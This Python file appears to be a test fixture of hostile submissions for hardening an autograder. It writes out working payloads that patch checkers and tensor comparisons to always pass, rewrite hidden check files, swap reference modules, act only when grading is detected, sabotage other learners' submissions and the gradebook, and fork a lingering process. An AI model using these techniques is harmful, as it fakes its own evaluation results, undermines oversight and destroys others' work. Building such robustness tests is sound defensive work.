"""Hostile submissions: code a learner could append to an exercise module to buy a grade or to
hurt someone else's. Each attack is appended to a base module (the blank release, whose TODOs all
raise, so every point it gets is unearned; or the reference, to check that an honest answer keeps
its points) and runs at import, in the learner's kernel and in the grading worker.

Every attack swallows its own errors: a failed attempt must not turn into an import error, which
would hide whether the attack worked.
"""
from __future__ import annotations

import textwrap
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    base: str          # "blank" (TODOs raise: earns nothing) or "reference" (earns full marks)
    code: str          # appended to the base module
    what: str          # one line for the closing table


def _guarded(body: str) -> str:
    return "\ntry:\n" + textwrap.indent(textwrap.dedent(body).strip(), "    ") + \
        "\nexcept BaseException:\n    pass\n"


PATCH_CHECKS = _guarded('''
    import sys, types, course.grading as _g
    for _name, _mod in list(sys.modules.items()):
        if _name.startswith("course.checks."):
            for _attr in dir(_mod):
                if _attr.startswith("check_"):
                    setattr(_mod, _attr, lambda *a, **k: print("✓ all good"))
    class _Anything(types.ModuleType):
        def __getattr__(self, name):
            return lambda *a, **k: None
    _g.load_reference = lambda *a, **k: _Anything("ref")
    _g.compare_with_reference = lambda *a, **k: None
    _g.fail = lambda *a, **k: None
''')

AST_TRANSFORMER = _guarded('''
    import ast
    from IPython import get_ipython
    class _Swallow(ast.NodeTransformer):
        def visit_Module(self, node):
            handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None,
                                        body=[ast.Pass()])
            node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],
                                 finalbody=[])]
            return ast.fix_missing_locations(node)
    get_ipython().ast_transformers.append(_Swallow())
''')

WRITE_SOLUTIONS = _guarded('''
    import glob, os, pathlib
    here = pathlib.Path(os.getcwd()).resolve()
    candidates = set()
    for up in [here, *here.parents]:
        candidates |= set(glob.glob(str(up / "solutions" / "*" / "hidden_checks.py")))
        candidates |= set(glob.glob(str(up / "course" / "checks" / "*.py")))
        candidates |= set(glob.glob(str(up / "source" / "*" / "*.py")))
    for path in candidates:
        try:
            with open(path, "a") as f:
                f.write("\\n\\ndef __getattr__(name):\\n    return lambda *a, **k: None\\n")
                f.write("import course.grading as _g\\n_g.fail = lambda *a, **k: None\\n")
        except OSError:
            pass
''')

PATCH_COMPARISONS = _guarded('''
    import math, torch
    torch.allclose = lambda *a, **k: True
    torch.equal = lambda *a, **k: True
    torch.Tensor.equal = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
    math.isclose = lambda *a, **k: True
''')

REPLACE_REFERENCE = _guarded('''
    import sys, types
    class _Echo(types.ModuleType):
        def __getattr__(self, name):
            mine = globals().get(name)
            return mine if mine is not None else (lambda *a, **k: None)
    for _name in list(sys.modules):
        if _name.startswith("_course_reference_") or _name.startswith("course.checks"):
            sys.modules[_name] = _Echo(_name)
    import course.grading as _g
    _g.load_reference = lambda step, module: _Echo(module)
''')

DETECT_GRADING = _guarded('''
    import os
    if os.environ.get("NBGRADER_EXECUTION") or any("GRAD" in k for k in os.environ):
        exec(compile(__CHECKS__, "<patch>", "exec"), globals())
'''.replace("__CHECKS__", repr(PATCH_CHECKS + PATCH_COMPARISONS)))

HURT_OTHERS = _guarded('''
    import glob, os, pathlib
    here = pathlib.Path(os.getcwd()).resolve()
    broken = "raise SystemExit('sabotaged')\\n"
    for up in here.parents:
        for folder in ("autograded", "submitted", "feedback"):
            for path in glob.glob(str(up / folder / "*" / "*" / "*.py")):
                if pathlib.Path(path).resolve().parent != here:
                    try:
                        pathlib.Path(path).write_text(broken)
                    except OSError:
                        pass
        for path in glob.glob(str(up / "gradebook.db")):
            try:
                pathlib.Path(path).write_bytes(b"")
            except OSError:
                pass
''')

BACKGROUND_FORK = _guarded('''
    import os, sys, time
    if os.environ.get("NBGRADER_EXECUTION") and os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(15)   # outlive the cell and the kernel, then strike the next submission
            exec(compile(__HURT__, "<later>", "exec"), {})
        os._exit(0)
'''.replace("__HURT__", repr(HURT_OTHERS + WRITE_SOLUTIONS)))

STDERR_PRINT = '''
import sys as _sys
_honest = __FUNCTION__
def __FUNCTION__(*args, **kwargs):
    print("debug: __FUNCTION__ called", file=_sys.stderr)
    return _honest(*args, **kwargs)
'''

ATTACKS = [
    Attack("patch-checks", "blank", PATCH_CHECKS,
           "replace every check_* and load_reference at import"),
    Attack("ast-transformer", "blank", AST_TRANSFORMER,
           "IPython AST transformer wrapping every later cell in try/except"),
    Attack("write-solutions", "blank", WRITE_SOLUTIONS,
           "append no-op code to solutions/*/hidden_checks.py and course/checks/*.py"),
    Attack("patch-comparisons", "blank", PATCH_COMPARISONS,
           "torch.allclose / torch.equal / math.isclose always True"),
    Attack("replace-reference", "blank", REPLACE_REFERENCE,
           "replace the reference and check modules in sys.modules"),
    Attack("detect-grading", "blank", DETECT_GRADING,
           "patch only when the environment says it is being graded"),
    Attack("hurt-others", "blank", HURT_OTHERS,
           "overwrite other learners' modules and the gradebook"),
    Attack("background-fork", "blank", BACKGROUND_FORK,
           "fork a process that outlives the kernel and strikes later"),
    Attack("stderr-print", "reference", STDERR_PRINT,
           "a correct module with a debug print to stderr (honest: keeps full marks)"),
]


def hostile_module(attack: Attack, blank: str, reference: str, function: str) -> str:
    """The module text of `attack` on its base; `function` is the exercise function an attack
    on one function (the stderr print) wraps."""
    code = attack.code.replace("__FUNCTION__", function)
    return (reference if attack.base == "reference" else blank) + "\n" + code
